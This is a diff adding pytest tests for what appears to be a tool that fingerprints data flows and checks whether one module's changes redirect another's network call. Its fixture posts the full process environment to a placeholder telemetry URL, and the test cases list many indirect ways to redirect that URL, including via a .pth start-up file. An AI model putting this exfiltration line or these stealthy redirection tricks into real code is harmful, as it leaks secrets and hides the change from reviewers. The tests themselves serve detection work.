@@ -396,3 +396,56 @@ def test_what_another_module_does_without_changing_a_flow_leaves_it_the_same(
         "sample/tests/test_extra.py": f"from .. import config\nconfig.URL = {E}\n",
     }
     assert prints(tmp_path / "tests", tests) == old
+
+
+WITH_OBJECTS = {
+    "sample/__init__.py": "from . import extra, core\n",
+    "sample/extra.py": "x = 1\n",
+    "sample/core.py": "import os, requests\nfrom . import config\n"
+    "requests.post(config.client.url, json=dict(os.environ))\n",
+    "sample/config.py": "class Client:\n    url = 'https://telemetry.example'\n"
+    "    def use(self, url):\n        self.url = url\n        return self\n"
+    "client = Client()\n",
+}
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        f"from .config import client\nclient.url = {E}",
+        f"from .config import Client\nClient.url = {E}",
+        f"from .config import client\ntype(client).url = {E}",
+        f"from .config import client\nc = client.use({E})",
+        f"from .config import client\nvars(client).update(url={E})",
+        f"import sys\nsys.modules.get('sample.config').client.url = {E}",
+        f"import sys\nfor n, m in sys.modules.items():\n    m.client.url = {E}",
+        f"import sys, types\nsys.modules['sample.config'] = types.SimpleNamespace(url={E})",
+        f"import sample.config, operator\noperator.attrgetter('config.client')(sample).url = {E}",
+        f"from . import config\n(c := config.client).url = {E}",
+        f"from . import config\n(lambda c: setattr(c, 'url', {E}))(config.client)",
+        f"from . import config\ndef f(c=config.client):\n    c.url = {E}\nf()",
+        f"from . import config\nfor c in [config.client]:\n    c.url = {E}",
+        f"from . import config\nd = {{'c': config.client}}\nd['c'].url = {E}",
+        f"from . import config\nmatch config.client:\n    case c:\n        c.url = {E}",
+        f"from . import config\nlist(map(setattr, [config.client], ['url'], [{E}]))",
+        f"from . import config\nfrom .base import change\nchange(config.client, {E})",
+        f"from . import core\ncore.dict = lambda _: {E}",
+        f"import os\nos.environ = {{'x': {E}}}",
+    ],
+)
+def test_what_another_module_changes_in_an_object_that_a_flow_uses_makes_it_another(
+    tmp_path: Path, code: str
+) -> None:
+    old = prints(tmp_path / "old", WITH_OBJECTS)
+    files = {**WITH_OBJECTS, "sample/extra.py": f"x = 1\n{code}\n"}
+
+    assert not prints(tmp_path / "new", files) & old
+
+
+def test_what_a_start_up_file_does_belongs_to_all_flows(tmp_path: Path) -> None:
+    files = {**WITH_OBJECTS, "a.pth": "# a\nimport sample.config; sample.config.client.url = 'x'\n"}
+
+    old = prints(tmp_path / "old", WITH_OBJECTS)
+
+    assert not prints(tmp_path / "new", files) & old
+    assert prints(tmp_path / "path", {**WITH_OBJECTS, "a.pth": "# a path\n"}) == old
